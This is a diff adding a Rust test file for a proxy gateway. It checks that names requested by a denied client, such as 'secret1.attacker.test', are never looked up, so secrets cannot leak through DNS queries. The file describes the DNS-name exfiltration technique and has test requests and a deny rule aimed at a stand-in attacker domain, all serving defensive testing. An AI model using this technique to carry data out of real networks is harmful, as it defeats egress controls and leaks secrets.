@@ -1,0 +1,118 @@
+//! Data carried out in the names of requests that are denied.
+//!
+//! A program that may reach nothing outside asks for `SECRET.attacker.test`. The request is denied, but if
+//! the gateway looks the name up first, the name server of `attacker.test` has the secret. The attacker
+//! spends one refused request for each 200 bytes or so. So a name is looked up only where a rule allows the
+//! name itself, or where the user's `resolve_for_networks` gives up this protection.
+
+use std::io::Write;
+use std::net::{IpAddr, Ipv4Addr, TcpStream};
+
+use crate::harness::{Gateway, LOCAL_USER};
+use crate::name_server::NameServer;
+use crate::peers::{
+    Destination, check_echo, connect_from, connect_request, read_answer, read_exactly, read_reply,
+    socks_request,
+};
+
+const ATTACKER: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 1);
+const NEIGHBOUR: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
+const TRUSTED: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 3);
+
+const ROUNDS: usize = 40;
+
+/// Besides the attacker, who has network rules for every port: the neighbour has a rule by name, and for the
+/// third user any name may be looked up.
+const USERS: &str = r#"
+[[user]]
+name = "neighbour"
+from = ["127.0.0.2/32"]
+allow = ["@lab"]
+[[user]]
+name = "trusted"
+from = ["127.0.0.3/32"]
+allow = ["127.0.0.0/8"]
+deny = ["*.attacker.test"]
+resolve_for_networks = true
+[destinations.lab]
+to = ["*.lab.test"]
+class = "internal"
+"#;
+
+/// The attacker's names lead to an address that no rule opens, all others to this machine.
+fn name_server() -> NameServer {
+    NameServer::start(|name| {
+        let is_attackers = name.ends_with("attacker.test");
+        vec![IpAddr::V4(if is_attackers { Ipv4Addr::new(192, 0, 2, 1) } else { Ipv4Addr::LOCALHOST })]
+    })
+}
+
+/// Asks for `target` from `source` by CONNECT; the connection and the status.
+fn connect(gateway: &Gateway, source: Ipv4Addr, target: &str) -> (TcpStream, u16) {
+    let mut stream = connect_from(source, gateway.listeners[0]);
+    stream.write_all(connect_request(target).as_bytes()).unwrap();
+    let status = read_answer(&mut stream).status;
+    (stream, status)
+}
+
+/// Asks for `host` from `source` by SOCKS5; the reply.
+fn socks5(gateway: &Gateway, source: Ipv4Addr, host: &str) -> u8 {
+    let mut stream = connect_from(source, gateway.listeners[0]);
+    stream.write_all(&[&[5, 1, 0][..], &socks_request(host, 443)].concat()).unwrap();
+    assert_eq!(read_exactly(&mut stream, 2), [5, 0]);
+    read_reply(&mut stream)
+}
+
+/// Asks for a page of `host` from `source`; the status.
+fn request(gateway: &Gateway, source: Ipv4Addr, host: &str) -> u16 {
+    let mut stream = connect_from(source, gateway.listeners[0]);
+    let head = format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
+    stream.write_all(head.as_bytes()).unwrap();
+    read_answer(&mut stream).status
+}
+
+#[test]
+fn a_denied_name_never_reaches_a_name_server() {
+    let (server, destination) = (name_server(), Destination::echo());
+    let gateway = Gateway::start(&format!("{LOCAL_USER}{USERS}{}", server.configuration()));
+    let port = destination.address.port();
+    let mut tunnelled = 0;
+    let served = |round: usize| {
+        let (mut stream, status) = connect(&gateway, NEIGHBOUR, &format!("host{round}.lab.test:{port}"));
+        if status == 200 {
+            check_echo(&mut stream, b"a request of the neighbour's");
+        }
+        usize::from(status == 200)
+    };
+    tunnelled += served(0);
+    gateway.await_metric("tollgate_connections_active", 0.0);
+    let (descriptors, memory) = (gateway.descriptors(), gateway.memory_bytes());
+    for round in 1..=ROUNDS {
+        let name = format!("secret{round}.attacker.test");
+        assert_eq!(connect(&gateway, ATTACKER, &format!("{name}:443")).1, 403);
+        assert_eq!(socks5(&gateway, ATTACKER, &name), 2);
+        assert_eq!(request(&gateway, ATTACKER, &name), 403);
+        tunnelled += served(round);
+    }
+    assert_eq!(tunnelled, ROUNDS + 1, "the neighbour is served");
+    let asked = server.asked();
+    assert!(asked.contains("host1.lab.test"), "the server's record is complete: {asked:?}");
+    assert!(!asked.iter().any(|name| name.ends_with("attacker.test")), "{asked:?}");
+    gateway.await_metric("tollgate_connections_active", 0.0);
+    gateway.await_metric("tollgate_handshakes_active", 0.0);
+    // A thread's first flow may open what it keeps from then on.
+    assert!(gateway.descriptors() <= descriptors + 16, "{} and then {descriptors}", gateway.descriptors());
+    assert!(gateway.memory_bytes() <= memory + (8 << 20), "{} and then {memory}", gateway.memory_bytes());
+}
+
+#[test]
+fn any_name_is_looked_up_for_a_user_who_may_have_that() {
+    let (server, destination) = (name_server(), Destination::echo());
+    let gateway = Gateway::start(&format!("{USERS}{}", server.configuration()));
+    let port = destination.address.port();
+    let (mut stream, status) = connect(&gateway, TRUSTED, &format!("any.elsewhere.test:{port}"));
+    assert_eq!(status, 200);
+    check_echo(&mut stream, b"behind a network rule");
+    assert_eq!(connect(&gateway, TRUSTED, "secret.attacker.test:443").1, 403, "a deny rule comes first");
+    assert_eq!(server.asked().into_iter().collect::<Vec<_>>(), ["any.elsewhere.test"]);
+}
